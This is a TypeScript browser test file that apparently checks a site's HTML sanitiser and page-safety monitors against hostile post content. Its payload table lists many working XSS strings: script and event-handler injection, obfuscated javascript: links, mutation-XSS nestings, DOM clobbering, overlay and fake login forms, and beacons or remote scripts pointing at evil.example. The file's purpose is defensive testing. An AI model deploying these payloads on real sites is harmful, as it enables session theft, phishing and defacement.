import { expect } from 'vitest';
import { expectConsole, openHydrated, testOf } from '../../support/browser.ts';
import {
  filterPlace,
  listPlaces,
  navigations,
  siteOfPosts,
  urlPlaces,
} from '../../support/hostile-site.ts';
import { failedLoad, watchPageSafety } from '../../support/page-safety.ts';

const cover = 'position:fixed;inset:0;z-index:2147483647;background:red';
const video = 'VgJQ8nPzEMQ';
const player = 'https://www.youtube-nocookie.com';

const payloads = Object.entries({
  script: '<script>alert(1)</script><script src="//evil.example/x.js"></script>',
  handlers: '<img src=x onerror=alert(1)><svg onload=alert(1)><p onclick=alert(1)>Read</p>',
  focus:
    '<input autofocus onfocus=alert(1)><a href=# tabindex=1 autofocus onfocus=alert(1)>Read</a>',
  schemes: '<a href="jav&#9;ascript&colon;alert(1)">a</a><a href="&#1;javascript:alert(1)">b</a>',
  frames: `<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="javascript:alert(1)"></iframe><iframe src="//evil.example"></iframe>`,
  plugins:
    '<object data="//evil.example/x.swf"></object><embed src="data:text/html,<script>alert(1)</script>">',
  styles:
    '<style>@import "//evil.example/x.css"; * { display: none }</style><link rel=stylesheet href=//evil.example/y.css>',
  cover: `<div style="${cover}"><a href="//evil.example" style="${cover}">Log in</a></div><dialog open style="${cover}">Log in</dialog>`,
  classes: '<div class="visually-hidden icon-button bleed table-frame">Log in</div>',
  forms:
    '<form action="//evil.example"><input name=password><button formaction=javascript:alert(1)>Log in</button></form>',
  head: '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"><title>Evil</title>',
  clobber:
    '<a id=page-data name=body href=#page-data>a</a><img name=getElementById id=posts><form id=location><input name=children></form><a href=#posts>b</a><a href=#location>c</a><a href=#children>d</a><a href=#getElementById>e</a>',
  pageData:
    '</script><script type="application/json" id="page-data">{}</script><div data-item="other" data-content data-await>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  foreign:
    '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject><use href="//evil.example/x.svg#a"/><animate attributeName=href values=javascript:alert(1)></svg>',
  mathMutation:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  formMutation:
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  rawText:
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><listing>&lt;img onerror=alert(1)&gt;</listing>',
  comments:
    '<!--><img src=x onerror=alert(1)>--><!--[if true]><script>alert(1)</script><![endif]--><![CDATA[<img src=x onerror=alert(1)>]]>',
  tables:
    '<table><td><table><form><tr><form><script>alert(1)</script></table><a href=x><table><a href=y>z',
  breakOut:
    '</div></article></main></body></html><header><nav><a href="//evil.example">Home</a></nav></header>',
  requests:
    '<video src="//evil.example/a.mp4" poster="//evil.example/b.png"></video><audio src="//evil.example/a.mp3" autoplay></audio><picture><source srcset="//evil.example/c.png"><img src="data:text/html,x" srcset="//evil.example/d.png"></picture><body background="//evil.example/e.png">',
  beacon:
    '<img src="https://evil.example/count" width=1 height=1><a href=/ ping="//evil.example/ping">Home</a>',
  wide: `<pre>${'x'.repeat(3_000)}</pre><img src="https://evil.example/wide.png" width=4000><table><tr>${'<td>wide wide wide'.repeat(60)}</table>${'y'.repeat(3_000)}`,
  deep: `${'<div><blockquote>'.repeat(3_000)}Deep`,
  template:
    '<template><script>alert(1)</script></template><template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  entities:
    '&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt; \u2028 </textarea><img src=x onerror=alert(1)>',
  controls: 'Gr\0ace \u202egnorw\u202c <a href="java\0script:alert(1)">Read</a>\ud800',
  plaintext: '<plaintext><img src=x onerror=alert(1)>',
}).map(([id, html]) => ({ id, html }));

const ids = payloads.map(({ id }) => id);

const site = await siteOfPosts([
  ...payloads,
  { id: 'video', html: `<iframe src="//youtu.be/${video}"></iframe>` },
]);
const test = testOf(site);

/** The payloads that could also do harm in plain text, cut to what a label may have. */
const plainTexts = payloads
  .filter(({ id }) => ['handlers', 'pageData', 'breakOut'].includes(id))
  .map(({ html }) => html.slice(0, 100));

const texts = Object.entries({ ...urlPlaces, filter: filterPlace });

test.for(Object.entries(navigations))('by %s, attacks do no harm', async (page, [_, way]) => {
  expectConsole(page, failedLoad);
  const harm = watchPageSafety(page, site.url);
  for (const [place, pathOf] of Object.entries(listPlaces)) {
    await way(page, pathOf(ids));
    const shown = await page.locator('[data-item]').count();
    expect(shown, place).toBeGreaterThanOrEqual(ids.length);
    expect(await harm(), place).toEqual([]);
  }
  for (const [place, pathOf] of texts) {
    for (const text of plainTexts) {
      await way(page, pathOf(text));
      expect(await harm(), place).toEqual([]);
    }
  }
});

test('a video is embedded in its player and keeps its aspect ratio', async (page) => {
  const harm = watchPageSafety(page, site.url);
  await page.route(`${player}/**`, (route) =>
    route.fulfill({ body: '<p>A video</p>', contentType: 'text/html' }),
  );
  await openHydrated(page, '/articles/video');
  const frame = page.locator('[data-content] iframe');
  await expect
    .poll(() => page.frames().map((shown) => shown.url()))
    .toContain(`${player}/embed/${video}`);
  const box = await frame.boundingBox();
  expect((box?.width ?? 0) / (box?.height ?? 1)).toBeCloseTo(16 / 9, 1);
  expect(await frame.getAttribute('src')).toBe(`${player}/embed/${video}`);
  expect(await harm()).toEqual([]);
});

const home = await (await site.get('/')).text();
/** The class of the navigation bar, which is sticky. */
const barClass = /<header class="(\S+)/.exec(home)?.[1];

const unsafe: [html: string, found: RegExp][] = [
  ['<script>alert(1)</script>', /script/],
  ['<img src=x onerror=alert(1)>', /handler onerror|inline event handler/],
  [`<div style="${cover}">x</div>`, /attribute style/],
  [`<div class="${barClass}">x</div>`, /position (fixed|sticky)/],
  ['<p id="page">x</p>', /an id page/],
  ['<img src="http://evil.example/a.png">', /evil\.example/],
  ['<iframe src="https://evil.example"></iframe>', /evil\.example/],
];

test('the checks detect what is not removed', async (page) => {
  expectConsole(page, /./);
  const harm = watchPageSafety(page, site.url);
  await page.route('**/api/quotes?q=*', async (route) => {
    const id = new URL(route.request().url()).searchParams.get('q') ?? '';
    const [content] = unsafe[Number(id)] ?? [];
    await route.fulfill({ json: { posts: [{ id, title: 'A title', published: null, content }] } });
  });
  await openHydrated(page, '/quotes');
  for (const [id, [, found]] of unsafe.entries()) {
    await harm();
    await navigations['client navigation'](page, `/quotes?q=${id}`);
    await page.locator(`[data-item="${id}"]`).waitFor();
    await expect.poll(async () => (await harm()).join('\n')).toMatch(found);
  }
});
